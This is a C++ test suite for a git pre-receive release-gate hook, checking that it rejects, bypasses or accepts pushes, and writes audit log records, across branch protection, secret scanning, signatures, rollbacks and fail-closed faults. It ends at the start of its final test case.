// The pre-receive enforcer end to end: real bare repositories with the hook installed by
// install.sh --server, real `git push` by path, file:// and git daemon, assertions on the
// client's `remote:` text, exit codes, the server's refs and the audit log.

#include "tests/support/push_harness.hpp"
#include "tests/support/testutil.hpp"

#include <doctest/doctest.h>
#include <nlohmann/json.hpp>

#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <functional>
#include <set>
#include <sstream>
#include <thread>

using namespace rg::test;
using nlohmann::json;

namespace {

using harness::bootstrap;
using harness::Client;
using harness::contains;
using harness::q;
using harness::trimmed;

const std::string kToken = harness::kDemoToken;  // matches the demo rule below

// The server policy used by these tests: a demo secret rule (the shipped pack is policy data of
// its own) and one user allowed to break glass.
const std::string kPolicy =
    "version: 1\n" + harness::kDemoSecrets + harness::kThreeRoles + "server:\n  bypass_users: [ops-lead]\n";

// Complete release records (SOP sections 2, 3, 5) for the types these tests push.
const std::string kRoutine = harness::kRoutineRecord;
const std::string kHotfix = harness::kHotfixRecord;
const std::string kArchitecture =
    "Release-Type: architecture\nAuthorized-By: Dana Cruz <dana@example.com>\nCEO-Aware: #exec-checkins 2026-01-02\n"
    "QA-Signoff: QA-9 PASS\nRollback-Plan: git revert HEAD; eta 30m; executor code.platform\n"
    "Monitoring-Window: 48h; owner cdo\n";

// The harness's server (the hook installed the way users install it) with kPolicy by default,
// and its audit log read back.
struct Server : harness::Server {
  explicit Server(const std::string& policy = kPolicy) : harness::Server(policy) {}
  // Every record of the audit log, in order (pre-receive decisions and post-receive outcomes).
  std::vector<json> log() const {
    std::vector<json> out;
    if (!fs::exists(audit_log())) return out;
    std::istringstream in(read_file(audit_log()));
    std::string line;
    while (std::getline(in, line)) {
      json j = json::parse(line, nullptr, false);
      REQUIRE_MESSAGE(!j.is_discarded(), "audit line is not JSON: " << line);
      out.push_back(j);
    }
    return out;
  }
  // The pre-receive decisions.
  std::vector<json> audit() const { return records("pre-receive"); }
  // The post-receive "applied" records.
  std::vector<json> applied() const { return records("post-receive"); }
  std::vector<json> records(const std::string& hook) const {
    std::vector<json> out;
    for (auto& j : log())
      if (j.value("hook", "") == hook) out.push_back(j);
    return out;
  }
};

// `git daemon --enable=receive-pack` on 127.0.0.1, stopped by its pid in the destructor (also
// when the test fails).
struct Daemon {
  TempDir dir;
  int port = 0;
  pid_t pid = 0;
  explicit Daemon(const fs::path& base) {
    port = free_port();
    const fs::path pid_file = dir / "daemon.pid";
    run_ok("git daemon --detach --reuseaddr --enable=receive-pack --export-all --listen=127.0.0.1 --port=" +
           std::to_string(port) + " --base-path=" + q(base) + " --pid-file=" + q(pid_file) + " " + q(base));
    for (int i = 0; i < 100 && pid == 0; ++i) {
      std::string p = trimmed(read_file(pid_file));
      if (!p.empty()) pid = std::stoi(p);
      else std::this_thread::sleep_for(std::chrono::milliseconds(20));
    }
    REQUIRE(pid > 0);
    for (int i = 0; i < 100 && !accepts_connections(port); ++i)  // wait until it accepts connections
      std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
  ~Daemon() {
    if (pid > 0) ::kill(pid, SIGTERM);
  }
  std::string url(const std::string& repo) const {
    return "git://127.0.0.1:" + std::to_string(port) + "/" + repo;
  }
};

} // namespace

TEST_SUITE("pre_receive") {

TEST_CASE("first push to an empty repository, then a release merge") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  auto audit = s.audit();
  REQUIRE(audit.size() == 1);
  CHECK(audit[0]["verdict"] == "accepted");
  CHECK(audit[0]["refs"][0]["ref"] == "refs/heads/main");
  CHECK(audit[0]["refs"][0]["old"] == "0000000000000000000000000000000000000000");
  CHECK(audit[0]["new_commits"] == 1);

  c.release("feature/login", "login.txt", "login\n");
  auto r = c.push("origin main");
  CHECK_MESSAGE(r.exit_code == 0, r.all());
  CHECK(contains(r.err, "remote: release-gate: ok (2 new commits checked)"));
  CHECK(s.rev("refs/heads/main") == c.head());
}

TEST_CASE("a direct commit on main is refused; a hotfix is allowed") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  const std::string before = s.rev("refs/heads/main");
  const std::string id = c.commit_file("a.txt", "a\n", "Quick fix");
  auto r = c.push("origin main");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "remote: release-gate: push rejected: 2 problems (SOP release readiness)"));
  CHECK(contains(r.err, "remote: refs/heads/main: error: commit " + id.substr(0, 12) +
                            " \"Quick fix\" is a direct (non-merge) commit on main [branch/direct-commit]"));
  CHECK(contains(r.err, "! [remote rejected] main -> main (pre-receive hook declined)"));
  CHECK(s.rev("refs/heads/main") == before);
  CHECK(s.audit().back()["verdict"] == "rejected");
  CHECK(s.audit().back()["rules"] == json::array({"branch/direct-commit", "release/missing-type"}));

  c.git("commit -q --amend -m " + sh_quote("Hotfix: crash on login\n\n" + kHotfix));
  r = c.push("origin main");
  CHECK_MESSAGE(r.exit_code == 0, r.all());
  CHECK(s.rev("refs/heads/main") == c.head());
}

TEST_CASE("branch creation with a zero old id, and secrets on any branch") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  c.git("checkout -q -b feature/ok");
  c.commit_file("ok.txt", "fine\n", "ok");
  auto r = c.push("origin feature/ok");
  CHECK_MESSAGE(r.exit_code == 0, r.all());
  CHECK(s.audit().back()["refs"][0]["old"] == "0000000000000000000000000000000000000000");

  c.git("checkout -q -b feature/leak main");
  c.commit_file("docs/notes.txt", "line one\n", "notes");
  const std::string leak = c.commit_file("config/app.env", "# settings\nAPI_TOKEN=" + kToken + "\n", "add config");
  r = c.push("origin feature/leak");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "remote: config/app.env:2: error: Demo token [secrets/demo-token]"));
  CHECK(contains(r.err, "remote:     commit " + leak.substr(0, 12)));
  CHECK(contains(r.err, "git rebase -i " + leak.substr(0, 12) + "^"));
  CHECK_FALSE(contains(r.all(), kToken));  // never the whole secret
  CHECK(s.rev("refs/heads/feature/leak").empty());
  const auto last = s.audit().back();
  CHECK(last["verdict"] == "rejected");
  const auto rules = last["rules"].get<std::vector<std::string>>();
  CHECK(std::count(rules.begin(), rules.end(), "secrets/demo-token") == 1);
  CHECK_FALSE(contains(last.dump(), kToken));
}

TEST_CASE("dangling feature branches: rejected, and the atomic push that deletes them passes") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  c.git("checkout -q -b feature/x main");
  c.commit_file("x.txt", "x\n", "x");
  REQUIRE(c.push("-q origin feature/x").exit_code == 0);
  c.git("checkout -q main");
  c.git("merge -q --no-ff --no-edit -m " + sh_quote("Release x\n\n" + kRoutine) + " feature/x");
  const std::string before = s.rev("refs/heads/main");

  auto r = c.push("origin main");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "remote: refs/heads/feature/x: error: feature/x (" + c.git("rev-parse --short=12 feature/x").out.substr(0, 12) +
                            ") is fully merged into main and would be left behind [branch/dangling-feature-branch]"));
  CHECK(contains(r.err, "remote:          git push --atomic origin main :feature/x"));
  CHECK(s.rev("refs/heads/main") == before);

  r = c.push("--atomic origin main :feature/x");
  CHECK_MESSAGE(r.exit_code == 0, r.all());
  CHECK(s.rev("refs/heads/main") == c.head());
  CHECK(s.rev("refs/heads/feature/x").empty());
}

TEST_CASE("protected main: no deletion, no force-push; feature branches may be deleted") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  const std::string main_tip = s.rev("refs/heads/main");
  auto r = c.push("origin :main");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "remote: refs/heads/main: error: main is protected and cannot be deleted [branch/protected-delete]"));
  CHECK(s.rev("refs/heads/main") == main_tip);

  c.git("commit -q --amend -m 'Rewritten import'");
  r = c.push("--force origin main");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "is not a fast-forward (history would be rewritten) [branch/non-fast-forward]"));
  CHECK(contains(r.err, "remote:     fix: never force-push main: git fetch origin && git rebase origin/main"));
  CHECK(s.rev("refs/heads/main") == main_tip);

  c.git("checkout -q -b feature/tmp " + main_tip);
  c.commit_file("t.txt", "t\n", "t");
  REQUIRE(c.push("-q origin feature/tmp").exit_code == 0);
  r = c.push("origin :feature/tmp");
  CHECK_MESSAGE(r.exit_code == 0, r.all());
  CHECK(s.rev("refs/heads/feature/tmp").empty());
}

TEST_CASE("tags: lightweight and annotated are accepted, a tag carrying a secret is refused") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  c.git("tag v1.0-light");
  c.git("tag -a -m 'Release 1.0' v1.0");
  auto r = c.push("origin v1.0 v1.0-light");
  CHECK_MESSAGE(r.exit_code == 0, r.all());
  CHECK(s.rev("refs/tags/v1.0^{commit}") == c.head());

  c.git("checkout -q --detach");
  const std::string leak = c.commit_file("k.txt", "key " + kToken + "\n", "tagged leak");
  c.git("tag -a -m 'bad' v2.0");
  r = c.push("origin v2.0");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "remote: k.txt:1: error: Demo token [secrets/demo-token]"));
  CHECK(s.rev("refs/tags/v2.0").empty());
}

TEST_CASE("a push of 500 commits, by file://") {
  Server s;
  Client c(s, "file://" + (fs::path("") / "placeholder").string());
  c.git("remote set-url origin " + sh_quote("file://" + s.bare.string()));
  bootstrap(s, c);
  // 500 commits on a feature branch, built with fast-import (one process, not 500).
  std::string fi = "reset refs/heads/feature/bulk\nfrom " + c.head() + "\n";
  for (int i = 0; i < 500; ++i) {
    const std::string body = "line " + std::to_string(i) + "\n";
    const std::string msg = "bulk " + std::to_string(i) + "\n";
    fi += "commit refs/heads/feature/bulk\ncommitter Test Dev <dev@example.com> 1767323045 +0000\n";
    fi += "data " + std::to_string(msg.size()) + "\n" + msg;
    fi += "M 644 inline bulk/f" + std::to_string(i % 50) + ".txt\ndata " + std::to_string(body.size()) + "\n" + body + "\n";
  }
  c.git("fast-import --quiet", fi);
  auto r = c.push("origin feature/bulk");
  CHECK_MESSAGE(r.exit_code == 0, r.all());
  CHECK(contains(r.err, "remote: release-gate: ok (500 new commits checked)"));
  CHECK(s.audit().back()["new_commits"] == 500);
}

TEST_CASE("pushes through git daemon") {
  Server s;
  Daemon d(s.dir.path());
  Client c(s, d.url("srv.git"));
  c.commit_file("README.md", "hello\n", "Initial import");
  auto r = c.push("origin main");
  CHECK_MESSAGE(r.exit_code == 0, r.all());
  CHECK(s.rev("refs/heads/main") == c.head());
  c.commit_file("b.txt", "b\n", "direct");
  r = c.push("origin main");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "[branch/direct-commit]"));
  CHECK(s.rev("refs/heads/main") != c.head());
}

TEST_CASE("break-glass push option: honoured for an allowed user, refused otherwise, always audited") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  const std::string before = s.rev("refs/heads/main");
  c.commit_file("a.txt", "a\n", "Emergency change");

  auto r = c.push("-o 'release-gate.bypass=INC-42 outage' origin main", "REMOTE_USER=dev");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "remote: error: dev may not use release-gate.bypass (allowed: roles cdo; users ops-lead) [push/bypass-not-allowed]"));
  CHECK(s.rev("refs/heads/main") == before);
  auto a = s.audit().back();
  CHECK(a["verdict"] == "rejected");
  CHECK(a["pusher"] == "dev");
  CHECK(a["pusher_source"] == "REMOTE_USER");
  CHECK(a["pusher_person"].is_null());  // "dev" is no one in this policy
  CHECK(a["bypass_reason"] == "INC-42 outage");
  CHECK(a["bypass_honoured"] == false);

  r = c.push("-o 'release-gate.bypass=INC-42 outage' origin main", "GL_USERNAME=ops-lead");
  CHECK_MESSAGE(r.exit_code == 0, r.all());
  CHECK(contains(r.err, "remote: release-gate: BREAK-GLASS: accepted for ops-lead: \"INC-42 outage\""));
  CHECK(s.rev("refs/heads/main") == c.head());
  a = s.audit().back();
  CHECK(a["verdict"] == "bypassed");
  CHECK(a["pusher_source"] == "GL_USERNAME");
  CHECK(a["bypass_honoured"] == true);
  CHECK(a["rules"] == json::array({"branch/direct-commit", "push/not-allowed-to-push", "release/missing-type"}));
}

TEST_CASE("a change to the policy file on main needs an architecture release") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  c.release("feature/policy", ".release-gate.yml", "version: 1\n");
  auto r = c.push("origin main");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "changes the release-gate policy file; that is an architecture release [branch/policy-change-needs-architecture]"));

  c.git("commit -q --amend -m " +
        sh_quote("Release policy\n\n" + kArchitecture));
  r = c.push("origin main");
  CHECK_MESSAGE(r.exit_code == 0, r.all());
}

TEST_CASE("strict SSH signatures: good, bad and unknown signer") {
  Server s(kPolicy + "  signatures: strict\n");
  TempDir keys;
  run_ok("ssh-keygen -q -t ed25519 -N '' -C dana -f " + q(keys / "dana"));
  run_ok("ssh-keygen -q -t ed25519 -N '' -C mallory -f " + q(keys / "mallory"));
  write_file(s.bare / "allowed_signers",
             "dana@example.com namespaces=\"git\" " + read_file(keys / "dana.pub"));
  Client c(s);
  c.git("commit -q --allow-empty -m 'Initial import\n\nRelease-Type: routine\nAuthorized-By: Dana Cruz <dana@example.com>\n'");
  auto r = c.push("origin main");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "is not signed (strict signatures) [sig/unsigned]"));

  const std::string sign_as = "-c gpg.format=ssh -c user.signingkey=";
  // Signed by someone who is not the named authorizer (no key of theirs is allowed).
  c.git(sign_as + sh_quote((keys / "mallory").string()) + " commit -q --amend --allow-empty -S --no-edit");
  r = c.push("origin main");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "is not signed by its authorizer (dana@example.com) [sig/bad-signature]"));
  CHECK(s.rev("refs/heads/main").empty());

  // Signed by the authorizer, but the message names an unknown authorizer.
  c.git(sign_as + sh_quote((keys / "dana").string()) + " commit -q --amend --allow-empty -S -m " +
        sh_quote("Initial import\n\nRelease-Type: routine\nAuthorized-By: Eve <eve@example.com>\n"));
  r = c.push("origin main");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "(eve@example.com) [sig/bad-signature]"));

  c.git(sign_as + sh_quote((keys / "dana").string()) + " commit -q --amend --allow-empty -S -m " +
        sh_quote("Initial import\n\nRelease-Type: routine\nAuthorized-By: Dana Cruz <dana@example.com>\n"));
  r = c.push("origin main");
  CHECK_MESSAGE(r.exit_code == 0, r.all());
  CHECK(s.rev("refs/heads/main") == c.head());
}

TEST_CASE("fail closed: a bad server policy, an exceeded time budget, a required identity") {
  SUBCASE("bad policy") {
    Server s("version: 1\nserver:\n  audit_lg: x\n");
    Client c(s);
    c.commit_file("a", "a\n", "init");
    auto r = c.push("origin main");
    CHECK(r.exit_code != 0);
    CHECK(contains(r.err, "remote: pre-receive: error: " + (s.bare / "release-gate.yml").string() +
                              ":3:3: unknown key `audit_lg` in `server`"));
    CHECK(contains(r.err, "remote: pre-receive: the push was rejected (fail closed); nothing was changed."));
    CHECK(s.rev("refs/heads/main").empty());
    CHECK(s.audit().back()["verdict"] == "error");
  }
  SUBCASE("time budget") {
    Server s(kPolicy + "  time_budget_ms: 1\n");
    Client c(s);
    for (int i = 0; i < 30; ++i) c.commit_file("f" + std::to_string(i), std::string(20000, 'x') + "\n", "c");
    auto r = c.push("origin main");
    CHECK(r.exit_code != 0);
    CHECK(contains(r.err, "remote: pre-receive: error: time budget of 1 ms exceeded while"));
    CHECK(s.rev("refs/heads/main").empty());
  }
  SUBCASE("identity required") {
    Server s(kPolicy + "  require_identity: true\n");
    Client c(s);
    c.commit_file("a", "a\n", "init");
    auto r = c.push("origin main");
    CHECK(r.exit_code != 0);
    CHECK(contains(r.err, "[push/identity-required]"));
    // Gitea's account e-mail is the user's own choice: it identifies no one unless the policy
    // says that host verifies e-mails.
    r = c.push("origin main", "GITEA_PUSHER_NAME=dana GITEA_PUSHER_EMAIL=dana@example.com");
    CHECK(r.exit_code != 0);
    CHECK(contains(r.err, "[push/not-allowed-to-push]"));
    std::string verified = kPolicy + "  require_identity: true\n";
    verified.replace(verified.find("release:\n"), 9, "release:\n  verified_email_hosts: [gitea]\n");
    write_file(s.bare / "release-gate.yml", verified);
    r = c.push("origin main", "GITEA_PUSHER_NAME=dana GITEA_PUSHER_EMAIL=dana@example.com");
    CHECK_MESSAGE(r.exit_code == 0, r.all());
    CHECK(s.audit().back()["pusher_email"] == "dana@example.com");
  }
}

TEST_CASE("20 concurrent pushes: the audit log has each push once, one valid JSON line each") {
  Server s;
  Client seed(s);
  bootstrap(s, seed);
  TempDir work;
  std::string script;
  for (int i = 0; i < 20; ++i) {
    const std::string dir = (work / ("c" + std::to_string(i))).string();
    script += "( git clone -q " + q(s.bare) + " " + sh_quote(dir) + " && cd " + sh_quote(dir) +
              " && git checkout -q -b feature/p" + std::to_string(i) + " && echo " + std::to_string(i) +
              " > f && git add f && git commit -q -m p" + std::to_string(i) +
              " && git push -q origin feature/p" + std::to_string(i) + " ) > " +
              sh_quote(dir + ".log") + " 2>&1 &\n";
  }
  script += "wait\n";
  run_ok(script, work.path());
  const auto audit = s.audit();
  REQUIRE(audit.size() == 21);  // the bootstrap push + 20
  std::multiset<std::string> refs;
  for (size_t i = 1; i < audit.size(); ++i) {
    CHECK(audit[i]["verdict"] == "accepted");
    REQUIRE(audit[i]["refs"].size() == 1);
    refs.insert(audit[i]["refs"][0]["ref"].get<std::string>());
  }
  for (int i = 0; i < 20; ++i) CHECK(refs.count("refs/heads/feature/p" + std::to_string(i)) == 1);
  for (int i = 0; i < 20; ++i) CHECK_FALSE(s.rev("refs/heads/feature/p" + std::to_string(i)).empty());
}

} // TEST_SUITE

// Release records, push roles, type inference and rollbacks on the server (same suite).
TEST_SUITE("pre_receive") {
TEST_CASE("release records on the server: unauthorized and wrongly authorized releases are refused") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  const std::string before = s.rev("refs/heads/main");
  c.git("checkout -q -b feature/pay main");
  c.commit_file("pay.txt", "pay\n", "payments");
  REQUIRE(c.push("-q origin feature/pay").exit_code == 0);
  c.git("checkout -q main");
  // No record at all.
  c.git("merge -q --no-ff -m 'Release payments' feature/pay");
  auto r = c.push("--atomic origin main :feature/pay");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "[release/missing-type]"));
  CHECK(contains(r.err, "then reword commit " + c.head().substr(0, 12)));
  CHECK(s.rev("refs/heads/main") == before);
  // Authorized by someone who does not hold the CDO role.
  c.git("commit -q --amend -m " +
        sh_quote("Release payments\n\nRelease-Type: routine\nAuthorized-By: Eve Intern <eve@example.com>\n"
                 "QA-Signoff: QA-7 PASS\nRollback-Plan: git revert HEAD; eta 10m; executor code.platform\n"
                 "Monitoring-Window: 24h; owner code.platform\n"));
  r = c.push("--atomic origin main :feature/pay");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "[auth/missing-authorization]"));
  CHECK(s.rev("refs/heads/main") == before);
  // A QA FAIL and a too-short monitoring window are refused too, all in one report.
  c.git("commit -q --amend -m " +
        sh_quote("Release payments\n\nRelease-Type: routine\nAuthorized-By: Dana Cruz <dana@example.com>\n"
                 "QA-Signoff: QA-7 FAIL\nRollback-Plan: git revert HEAD; eta 10m; executor code.platform\n"
                 "Monitoring-Window: 2h; owner code.platform\n"));
  r = c.push("--atomic origin main :feature/pay");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "push rejected: 2 problems"));
  CHECK(s.rev("refs/heads/main") == before);
  // The complete record passes.
  c.git("commit -q --amend -m " + sh_quote("Release payments\n\n" + kRoutine));
  r = c.push("--atomic origin main :feature/pay");
  CHECK_MESSAGE(r.exit_code == 0, r.all());
  CHECK(s.rev("refs/heads/main") == c.head());
}

TEST_CASE("who may move main: the pusher must hold a push role when the host names them") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  c.release("feature/a", "a.txt", "a\n");
  auto r = c.push("origin main", "GL_USERNAME=intern");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "intern may not move main: only holders of the roles cdo, release-manager may [push/not-allowed-to-push]"));
  CHECK(contains(r.err, "GL-HOOK-ERR: "));
  // A login is never matched against an e-mail's local part: "dana" is not dana@example.com.
  r = c.push("origin main", "GL_USERNAME=dana");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "[push/not-allowed-to-push]"));
  r = c.push("origin main", "GL_USERNAME=dana@example.com");
  CHECK_MESSAGE(r.exit_code == 0, r.all());
  CHECK(s.audit().back()["pusher"] == "dana@example.com");
}

TEST_CASE("a release merging two feature branches must not be labelled routine") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  for (const char* b : {"feature/one", "feature/two"}) {
    c.git(std::string("checkout -q -b ") + b + " main");
    c.commit_file(std::string(b).substr(8) + ".txt", "x\n", b);
    REQUIRE(c.push(std::string("-q origin ") + b).exit_code == 0);
  }
  c.git("checkout -q main");
  c.git("merge -q --no-ff -m " + sh_quote("Release one and two\n\n" + kRoutine) + " feature/one feature/two");
  auto r = c.push("--atomic origin main :feature/one :feature/two");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "this release merges 2 feature branches but is declared `routine` [release/mislabeled-type]"));
  const std::string multi = "Release one and two\n\nRelease-Type: multi-feature\nAuthorized-By: Dana Cruz <dana@example.com>\n"
                            "CEO-Aware: #exec-checkins 2026-01-02\nQA-Signoff: QA-1 PASS\nQA-Signoff: QA-2 PASS\n"
                            "Rollback-Plan: git revert -m 1 HEAD; eta 10m; executor code.platform\n"
                            "Monitoring-Window: 24h; owner code.platform\n";
  c.git("commit -q --amend -m " + sh_quote(multi));
  r = c.push("--atomic origin main :feature/one :feature/two");
  CHECK_MESSAGE(r.exit_code == 0, r.all());
}

TEST_CASE("rollbacks: a verified release-rollback is accepted, a fake one is refused, a re-release needs RCA") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  c.release("feature/bad", "bad.txt", "regression\n");
  REQUIRE(c.push("-q origin main").exit_code == 0);
  const std::string release = c.head();

  // A "rollback" whose tree is not the revert of what it names.
  c.git("revert --no-edit -m 1 " + release);
  c.write("other.txt", "sneaked in\n");
  c.git("add other.txt");
  c.git("commit -q --amend -m " + sh_quote("Revert release\n\nRelease-Type: rollback\nRollback-Of: " + release +
                                          "\nIncident: INC-9\nAuthorized-By: Dana Cruz <dana@example.com>\n"));
  auto r = c.push("origin main");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "claims to be a rollback but is not the revert it names [rollback/unverified]"));
  CHECK(contains(r.err, "other.txt"));
  CHECK(s.rev("refs/heads/main") == release);
  c.git("reset -q --hard " + release);

  // The real thing, written and pushed by release-rollback: accepted with no QA gate.
  r = run(sh_quote(bin("release-rollback")) + " " + release +
              " --incident INC-9 --authorized-by 'Dana Cruz <dana@example.com>' --push origin",
          c.path());
  CHECK_MESSAGE(r.exit_code == 0, r.all());
  const std::string rollback = c.head();
  CHECK(s.rev("refs/heads/main") == rollback);
  CHECK_FALSE(std::filesystem::exists(c.path() / "bad.txt"));

  // Re-releasing the change (reverting the rollback on a branch, merged back) needs an RCA line.
  c.git("checkout -q -b feature/again main");
  c.git("revert --no-edit " + rollback);
  REQUIRE(c.push("-q origin feature/again").exit_code == 0);
  c.git("checkout -q main");
  c.git("merge -q --no-ff -m " + sh_quote("Re-release\n\n" + kRoutine) + " feature/again");
  r = c.push("--atomic origin main :feature/again");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "RCA"));
  CHECK(s.rev("refs/heads/main") == rollback);
  c.git("commit -q --amend -m " + sh_quote("Re-release\n\n" + kRoutine + "RCA: docs/rca/INC-9.md\n"));
  r = c.push("--atomic origin main :feature/again");
  CHECK_MESSAGE(r.exit_code == 0, r.all());
  CHECK(s.rev("refs/heads/main") == c.head());
}

TEST_CASE("server policy faults fail closed: never the embedded defaults") {
  // Each fault replaces the server's release-gate.yml; the push (which the defaults would accept)
  // must be refused with the file named and what to do, the refs unchanged, the error audited.
  struct Fault {
    std::string name;
    std::function<void(const fs::path&)> make;
    std::string message;
  };
  const std::vector<Fault> faults = {
      {"directory", [](const fs::path& f) { fs::create_directory(f); },
       "policy file is a directory, not a regular file; replace it with a file or remove it"},
      {"dangling symlink", [](const fs::path& f) { fs::create_symlink(f.parent_path() / "gone.yml", f); },
       "policy file is a symbolic link to "},
      {"empty", [](const fs::path& f) { write_file(f, ""); },
       "policy file is empty; delete it to use the defaults, or write the policy"},
      {"FIFO", [](const fs::path& f) { REQUIRE(::mkfifo(f.c_str(), 0644) == 0); },
       "policy file is a FIFO, not a regular file; replace it with a file or remove it"},
      {"/dev/zero", [](const fs::path& f) { fs::create_symlink("/dev/zero", f); },
       "policy file is a character device, not a regular file; replace it with a file or remove it"},
  };
  for (const auto& fault : faults) {
    CAPTURE(fault.name);
    Server s;
    Client c(s);
    const fs::path policy = s.bare / "release-gate.yml";
    fs::remove(policy);
    fault.make(policy);
    c.commit_file("README.md", "hello\n", "Initial import");
    const auto t0 = std::chrono::steady_clock::now();
    auto r = c.push("origin main");
    CHECK(std::chrono::steady_clock::now() - t0 < std::chrono::seconds(30));
    CHECK(r.exit_code != 0);
    CHECK(contains(r.err, "remote: pre-receive: error: " + policy.string() + ": " + fault.message));
    CHECK(contains(r.err, "remote: pre-receive: the push was rejected (fail closed); nothing was changed."));
    CHECK(s.refs().empty());
    // The policy could not name the log, so the default one holds the error.
    REQUIRE(s.audit().size() == 1);
    CHECK(s.audit().back()["verdict"] == "error");
    CHECK(contains(s.audit().back()["error"].get<std::string>(), fault.message));
    CHECK(s.applied().empty());
  }
}

TEST_CASE("post-receive records what git applied; a refused push leaves only the decision") {
  Server s;
  Client c(s);
  // An existing post-receive kept by install.sh as .local still runs, with the same input.
  write_file(s.bare / "hooks" / "post-receive.local", "#!/bin/sh\ncat > \"$GIT_DIR/local-saw.txt\"\n");
  fs::permissions(s.bare / "hooks" / "post-receive.local", fs::perms::owner_all, fs::perm_options::add);
  bootstrap(s, c);
  auto log = s.log();
  REQUIRE(log.size() == 2);
  CHECK(log[0]["hook"] == "pre-receive");
  CHECK(log[0]["verdict"] == "accepted");
  CHECK(log[1]["hook"] == "post-receive");
  CHECK(log[1]["verdict"] == "applied");
  CHECK(log[1]["push"] == log[0]["push"]);
  CHECK(log[1]["push"].get<std::string>().size() == 40);
  CHECK(log[1]["refs"] == log[0]["refs"]);
  CHECK(log[1]["refs"][0]["new"] == c.head());
  CHECK(log[0]["releases"] == json::array());
  CHECK(trimmed(read_file(s.bare / "local-saw.txt")) ==
        "0000000000000000000000000000000000000000 " + c.head() + " refs/heads/main");
  // The id is reproducible with git alone.
  const std::string lines = "0000000000000000000000000000000000000000 " + c.head() + " refs/heads/main\n";
  CHECK(trimmed(run("git hash-object --stdin", {}, lines).out) == log[1]["push"]);

  const std::string before = s.rev("refs/heads/main");
  c.commit_file("a.txt", "a\n", "Quick fix");
  auto r = c.push("origin main");
  CHECK(r.exit_code != 0);
  CHECK(s.rev("refs/heads/main") == before);
  log = s.log();
  REQUIRE(log.size() == 3);
  CHECK(log[2]["hook"] == "pre-receive");
  CHECK(log[2]["verdict"] == "rejected");
}

TEST_CASE("an unwritable audit log refuses the push, and says so once") {
  Server s(kPolicy + "  audit_log: /dev/full\n");
  Client c(s);
  c.commit_file("README.md", "hello\n", "Initial import");
  auto r = c.push("origin main");
  CHECK(r.exit_code != 0);
  const std::string what = "cannot append to audit log /dev/full: No space left on device";
  CHECK(contains(r.err, "remote: pre-receive: error: " + what));
  CHECK(r.err.find(what) == r.err.rfind(what));
  CHECK(contains(r.err, "remote: pre-receive: the push was rejected because every decision must be recorded"));
  CHECK(s.refs().empty());
}

TEST_CASE("a pre-receive killed by SIGTERM or its watchdog still leaves its record") {
  struct Kill {
    std::string signal, rc, message, error;
  };
  const std::vector<Kill> kills = {
      {"TERM", "rc=143", "pre-receive: error: killed by a signal; the push was rejected, nothing changed.",
       "killed by a signal (SIGTERM, SIGHUP or SIGINT) before deciding"},
      {"ALRM", "rc=1", "pre-receive: error: time budget exceeded (watchdog); the push was rejected, nothing changed.",
       "killed by SIGALRM: the time budget watchdog (server.time_budget_ms) fired"},
  };
  for (const auto& k : kills) {
    CAPTURE(k.signal);
    Server s;
    // The hook waits on a stdin that never ends; the record was prepared before the read.
    const fs::path fifo = s.dir / "stdin";
    REQUIRE(::mkfifo(fifo.c_str(), 0644) == 0);
    auto r = run("GIT_DIR=. " + sh_quote(bin("pre-receive")) + " < " + q(fifo) + " 2>" + q(s.dir / "err.txt") +
                     " & p=$!; exec 3>" + q(fifo) + "; sleep 1; kill -" + k.signal + " $p; wait $p; echo rc=$?",
                 s.bare);
    CHECK(trimmed(r.out) == k.rc);
    CHECK(contains(read_file(s.dir / "err.txt"), k.message));
    auto a = s.audit();
    REQUIRE(a.size() == 1);
    CHECK(a[0]["verdict"] == "error");
    CHECK(a[0]["error"] == k.error);
  }
}
}

TEST_SUITE("pre_receive") {

TEST_CASE("the SOP's literal rollback: git revert pushed as it is, by a holder of a rollback role") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  c.release("feature/bad", "bad.txt", "regression\n");
  REQUIRE(c.push("-q origin main").exit_code == 0);
  const std::string release = c.head();
  c.git("revert --no-edit -m 1 " + release);
  // Anonymous: the plain revert carries no authority; the fix says which lines to add.
  auto r = c.push("origin main");
  CHECK(r.exit_code != 0);
  CHECK(contains(r.err, "[rollback/no-record]"));
  CHECK(contains(r.err, "--trailer 'Rollback-Of: " + release + "'"));
  CHECK(s.rev("refs/heads/main") == release);
  // Someone who holds no rollback role: still refused.
  r = c.push("origin main", "REMOTE_USER=intern@example.com");
  CHECK(r.exit_code != 0);
  CHECK(s.rev("refs/heads/main") == release);
  // The CDO, proven by the host: accepted, no QA gate.
  r = c.push("origin main", "REMOTE_USER=dana@example.com");
  CHECK_MESSAGE(r.exit_code == 0, r.all());
  CHECK(s.rev("refs/heads/main") == c.head());
}

TEST_CASE("a plain git revert of something main never had is not a rollback, whoever pushes it") {
  Server s;
